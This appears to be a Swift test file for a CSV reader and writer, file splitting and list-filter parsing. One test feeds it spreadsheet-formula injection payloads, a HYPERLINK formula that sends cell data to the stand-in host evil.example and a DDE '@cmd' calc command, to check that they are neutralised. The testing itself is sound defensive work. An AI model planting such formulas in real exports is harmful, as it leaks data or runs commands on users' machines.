import AgencyDomain
import Testing

@Suite("CSV reading and writing")
struct CSVTests {
    /// Reads `text` fed in pieces of `size` bytes, so that every boundary case (a BOM, a CRLF, a
    /// doubled quote cut in two) is met.
    static func read(_ text: String, size: Int) -> [CSVRecord] {
        var reader = CSVReader()
        var records: [CSVRecord] = []
        let bytes = Array(text.utf8)
        var start = 0
        while start < bytes.count {
            records += reader.feed(bytes[start..<min(start + size, bytes.count)])
            start += size
        }
        return records + reader.finish()
    }

    @Test(arguments: [1, 2, 3, 7, 1_000])
    func quotesLineBreaksAndTheByteOrderMark(pieceSize: Int) {
        let text = "\u{FEFF}email,note\r\n\"a@x.de\",\"Müller, \"\"Sr.\"\"\"\r\n\r\nb@x.de,\"two\nlines\"\rc@x.de,🎉 end"
        let records = Self.read(text, size: pieceSize)
        #expect(records == [
            CSVRecord(line: 1, fields: ["email", "note"]),
            CSVRecord(line: 2, fields: ["a@x.de", "Müller, \"Sr.\""]),
            CSVRecord(line: 4, fields: ["b@x.de", "two\nlines"]),
            CSVRecord(line: 6, fields: ["c@x.de", "🎉 end"]),
        ])
    }

    @Test func anUnclosedQuoteAndInvalidUTF8AreProblemsOfTheirRecord() {
        var reader = CSVReader()
        let records = reader.feed(Array("ok,1\n".utf8) + [0x66, 0xFF, 0x0A] + Array("x,\"never closed\n".utf8)) + reader.finish()
        #expect(records.count == 3)
        #expect(records[0].problem == nil)
        #expect(records[1].problem == "the line is not valid UTF-8")
        #expect(records[2].line == 3)
        #expect(records[2].problem == "a quoted value is never closed")
    }

    @Test func theWriterWritesWhatTheReaderReadsBack() {
        let rows = [["plain", "with, comma", "with \"quote\"", "line\r\nbreak", " padded ", ""], ["Zoë 🎉", "|", "\\"]]
        var bytes: [UInt8] = []
        for row in rows { CSVWriter.append(row, to: &bytes) }
        #expect(String(decoding: bytes, as: UTF8.self).hasPrefix("plain,\"with, comma\",\"with \"\"quote\"\"\",\"line\r\nbreak\",\" padded \",\r\n"))
        var reader = CSVReader()
        let read = (reader.feed(bytes) + reader.finish()).map(\.fields)
        #expect(read == rows)
    }

    /// Cells a spreadsheet would run as formulas are written behind a `'`, and read back as they were,
    /// including values that already begin with apostrophes.
    @Test func formulaCellsAreWrittenAsTextAndReadBackWhole() {
        let row = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click me\")", "@cmd|' /C calc'!A0", "+49 30 1234", "-2+3",
            "\t=1+1", "'=already", "''@twice", "'plain", "it's", "a=b", "", "'", "\r=x",
        ]
        var bytes: [UInt8] = []
        CSVWriter.append(row, to: &bytes)
        var reader = CSVReader()
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.hasPrefix("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click me\"\")\",'@cmd|' /C calc'!A0,'+49 30 1234,'-2+3,'\t=1+1,"))
        #expect(text.hasSuffix(",''=already,'''@twice,'plain,it's,a=b,,',\"'\r=x\"\r\n"))
        #expect((reader.feed(bytes) + reader.finish()).map(\.fields) == [row])
        // No cell of the file begins with a character a spreadsheet evaluates.
        for field in row {
            let cell = CSVFormulaGuard.protect(field)
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
            #expect(CSVFormulaGuard.unprotect(cell) == field)
        }
    }

    @Test func namesInOneCell() {
        let names = ["VIP", "a|b", "back\\slash", "Kunde, alt"]
        #expect(CSVNameList.split(CSVNameList.join(names)) == names)
        #expect(CSVNameList.split(" VIP | Lead ||") == ["VIP", "Lead"])
        #expect(CSVNameList.split("") == [])
    }

    /// Parts repeat the header, never cut a quoted line break, and their offsets give back the
    /// file's own line numbers.
    @Test func partsKeepTheFilesLineNumbers() {
        let file = "email,note\n" + "a@x.de,\"one\ntwo\"\n" + "b@x.de,x\n" + "c@x.de,y\n" + "d@x.de,z"
        var splitter = CSVParts(recordsPerPart: 2)
        var parts: [CSVParts.Part] = []
        for byte in Array(file.utf8) { parts += splitter.feed([byte]) }
        parts += splitter.finish()
        #expect(parts.count == 2)
        var lines: [Int: String] = [:]
        for part in parts {
            #expect(part.bytes.starts(with: Array("email,note\n".utf8)))
            var reader = CSVReader()
            for record in (reader.feed(part.bytes) + reader.finish()).dropFirst() { lines[record.line + part.lineOffset] = record.fields[0] }
        }
        #expect(lines == [2: "a@x.de", 4: "b@x.de", 5: "c@x.de", 6: "d@x.de"])
    }

    /// Whatever the line breaks and quotes, the parts read back as the whole file reads: the same
    /// records on the same lines.
    @Test(arguments: [
        "email,note\r\na@x.de,\"one\r\ntwo\"\r\nb@x.de,5\" tall\r\nc@x.de,\"three\nfour\"\r\nd@x.de,\"\"\"q\"\"\"\r\n",
        "email,note\ra@x.de,x\rb@x.de,\"y\rz\"\rc@x.de,w\rd@x.de,v",
        "\u{FEFF}\"e\nmail\",note\n\na@x.de,1\nb@x.de,2\n\nc@x.de,3\n",
    ])
    func partsReadAsTheWholeFile(file: String) {
        let whole = Self.read(file, size: 1_000).dropFirst().map { "\($0.line) \($0.fields)" }
        for pieceSize in [1, 3, 1_000] {
            var splitter = CSVParts(recordsPerPart: 1)
            var parts: [CSVParts.Part] = []
            let bytes = Array(file.utf8)
            var start = 0
            while start < bytes.count {
                parts += splitter.feed(bytes[start..<min(start + pieceSize, bytes.count)])
                start += pieceSize
            }
            parts += splitter.finish()
            var read: [String] = []
            for part in parts {
                var reader = CSVReader()
                read += (reader.feed(part.bytes) + reader.finish()).dropFirst().map { "\($0.line + part.lineOffset) \($0.fields)" }
            }
            #expect(read == whole, "pieces of \(pieceSize)")
            #expect(parts.count >= whole.count)
        }
    }
}

@Suite("v3 list filters")
struct ListFilterTests {
    @Test func keysAreReadAsV3WritesThem() {
        #expect(ListFilter.parse(key: "filters[name]")! == ("name", .eq))
        #expect(ListFilter.parse(key: "filters[search][starts_with]")! == ("search", .startsWith))
        #expect(ListFilter.parse(key: "filters[search][GTE]")! == ("search", .gte))
        #expect(ListFilter.parse(key: "filters[search][between]") == nil)
        #expect(ListFilter.parse(key: "filters[]") == nil)
        #expect(ListFilter.parse(key: "filters[a][b][c]") == nil)
        #expect(ListFilter.parse(key: "orders[name]") == nil)
    }
}
